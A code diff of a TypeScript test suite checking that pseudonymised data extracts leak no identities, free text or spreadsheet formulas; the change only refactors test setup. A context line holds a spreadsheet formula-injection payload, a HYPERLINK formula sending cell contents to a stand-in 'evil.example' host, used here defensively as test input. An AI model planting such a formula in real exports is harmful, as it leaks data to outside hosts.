@@ -1,6 +1,7 @@
 import { ExtractRegistry } from '../../src/extracts/extract-registry';
 import { buildCaseHistory, CaseHistory } from '../helpers/case-history';
-import { createTestApp, TestApp, TestUser } from '../helpers/test-app';
+import { setupTestApp } from '../helpers/setup';
+import { TestUser } from '../helpers/test-app';
 
 const UUID = /[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/i;
 const NHS_NUMBER = '9434765919';
@@ -12,7 +13,6 @@ const EVIL_ORGANISATION = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
  * "pseudonymised" extract, or a crafted value runs as a formula when the CSV opens in Excel.
  */
 describe('pseudonymised extracts leak no identities, free text or formulas', () => {
-  let t: TestApp;
   let h: CaseHistory;
   let analyst: TestUser;
   const today = new Date().toISOString().slice(0, 10);
@@ -31,8 +31,8 @@ describe('pseudonymised extracts leak no identities, free text or formulas', () 
         .expect(200)
     ).body as string;
 
+  const { t } = setupTestApp({});
   beforeAll(async () => {
-    t = await createTestApp();
     h = await buildCaseHistory(t, { leadReason: LEAD_REASON, organisationName: EVIL_ORGANISATION });
     await t.sql.query(`UPDATE persons SET nhs_number = $1 WHERE id = $2`, [NHS_NUMBER, h.childId]);
     analyst = await t.user(['analyst']);
@@ -45,7 +45,6 @@ describe('pseudonymised extracts leak no identities, free text or formulas', () 
                    NULL::text AS "Empty"`,
     });
   });
-  afterAll(() => t.close());
 
   const realExtracts = () =>
     t.app
